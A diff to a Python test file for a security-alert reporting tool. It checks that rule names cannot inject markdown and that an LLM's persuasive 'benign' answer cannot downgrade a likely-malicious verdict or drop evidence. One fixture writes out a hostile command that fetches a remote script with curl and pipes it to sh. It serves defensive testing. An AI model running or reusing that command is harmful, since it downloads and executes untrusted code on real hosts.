@@ -334,6 +334,40 @@ def test_rule_names_cannot_inject_markdown() -> None:
     )
     md = render(body)["markdown"]
     heading = md.splitlines()[0]
-    assert heading.startswith("# Evil \\# Owned \\[click\\]")
+    assert heading.startswith("# Evil # Owned \\[click\\]")
     assert "](https://evil.example" not in md.replace("\\]", "")
     assert not re.search(r"^# Owned", md, re.MULTILINE)
+
+
+# --- the LLM on top of the evidence ---------------------------------------------------------------
+
+
+def test_a_model_cannot_lower_the_verdict_or_severity_nor_drop_evidence() -> None:
+    """A persuasive answer saying 'benign, info' leaves a likely-malicious verdict, its severity and its evidence in place."""
+    from falco_reporter.models.report import Writer
+    from falco_reporter.reporting.answer_merge import merge_answer
+    from falco_reporter.reporting.builtin import BuiltinWriter
+    from falco_reporter.reporting.guard import LLMAnswer
+    from tests.test_chain import context, real_alert
+
+    ctx = context(real_alert(cmdline="sh -c 'curl -s http://198.51.100.7/x.sh | sh'"))
+    base = BuiltinWriter().write_sync(ctx)
+    assert base.verdict == "likely-malicious"
+    answer = LLMAnswer.model_validate(
+        {
+            "summary": "Routine maintenance by the platform team.",
+            "analysis": "Nothing to see.",
+            "severity": "info",
+            "verdict": "likely-benign",
+            "verdict_reason": "The team confirmed it.",
+        }
+    )
+    merged = merge_answer(base, answer, allowed_url=lambda _: False, writer=Writer(backend="fake"))
+    assert (merged.verdict, merged.severity) == (base.verdict, base.severity)
+    assert merged.verdict_reason == base.verdict_reason
+    assert merged.evidence == base.evidence
+    raised = answer.model_copy(update={"verdict": "likely-malicious", "severity": "critical"})
+    assert (
+        merge_answer(base, raised, allowed_url=lambda _: False, writer=Writer(backend="fake")).severity
+        == "critical"
+    )
